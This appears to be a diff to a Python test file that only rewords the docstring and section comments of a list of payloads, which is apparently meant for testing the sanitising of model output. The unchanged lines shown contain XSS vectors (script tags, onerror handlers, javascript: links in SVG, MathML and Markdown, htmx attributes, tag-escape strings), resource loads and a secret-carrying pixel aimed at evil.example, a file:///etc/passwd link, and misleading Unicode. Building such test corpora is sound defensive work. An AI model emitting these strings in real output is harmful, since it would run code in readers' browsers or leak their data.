@@ -1,5 +1,5 @@
-"""Things a model may say to run code in a reader's browser, load something from elsewhere, or lead
-astray.
+"""Texts with which a model may try to run code in a reader's browser, load something from another
+site, or mislead.
 """
 
 PAYLOADS = (
@@ -37,7 +37,7 @@ PAYLOADS = (
     "\u202egnp.exe \x00 \x1b[31m red \ud7ff",
     "`<script>window.pwned=1</script>`\n\n```html\n<img src=x onerror=window.pwned=1>\n```",
     '<https://example.org/"onmouseover=window.pwned=1>',
-    # scalable pictures and formulas
+    # SVG and MathML
     '<svg><script href="data:,window.pwned=1"/></svg>',
     '<svg><a xlink:href="javascript:window.pwned=1"><text y=20>x</text></a></svg>',
     (
@@ -55,7 +55,7 @@ PAYLOADS = (
     ),
     '<math href="javascript:window.pwned=1"><mi>x</mi></math>',
     "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\unicode{<img src=x onerror=window.pwned=1>}\\)",
-    # what loads something
+    # loading something
     '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
     (
         '<picture><source srcset="//evil.example/a.webp"><img src="//evil.example/a.png"'
@@ -89,7 +89,7 @@ PAYLOADS = (
     '<script type=module>import "https://evil.example/m.js"; window.pwned=1</script>',
     '<script type="importmap">{"imports":{"./keys.js":"//evil.example/k.js"}}</script>',
     '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/p"]}]}</script>',
-    # markdown that leads out
+    # Markdown with links to other sites
     "![pixel][p]\n\n[p]: https://evil.example/pixel?secret=2",
     "[reference][r]\n\n[r]: javascript:window.pwned=1",
     "<javascript:window.pwned=1> <data:text/html,window.pwned=1> <vbscript:msgbox>",
@@ -101,7 +101,7 @@ PAYLOADS = (
     "[![x](//evil.example/b.png)](//evil.example)",
     "[click](blob:https://evil.example/1) [click](file:///etc/passwd) [click](ftp://evil.example)",
     "[click](https://good.example@evil.example/) [click](https://xn--80ak6aa92e.com/)",
-    # the page's own machinery
+    # the page's own scripts and attributes
     '<div hx-get="https://evil.example" hx-trigger="load" hx-target="body">x</div>',
     (
         "<div hx-on::load=\"window.pwned=1\" hx-on:htmx:load='window.pwned=1'"
@@ -147,7 +147,7 @@ PAYLOADS = (
         "<div popover id=p onbeforetoggle=window.pwned=1></div><button popovertarget=p"
         " autofocus>x</button>"
     ),
-    # out of where it was put
+    # escapes from the surrounding element
     "--><script>window.pwned=1</script><!--",
     "]]><script>window.pwned=1</script><![CDATA[",
     "</textarea><script>window.pwned=1</script><textarea>",
@@ -171,7 +171,7 @@ PAYLOADS = (
         "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e \ufe64img src=x"
         " onerror=window.pwned=1\ufe65"
     ),
-    # letters that are not what they seem
+    # misleading characters
     "\u202etpircs\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad pay\u202epal.com",
     "e" + "\u0301" * 200 + " \U000e0001\U000e0041 \U0001f468\u200d\U0001f469\u200d\U0001f467",
     "a" * 3000 + "<img/src=x/onerror=window.pwned=1>",
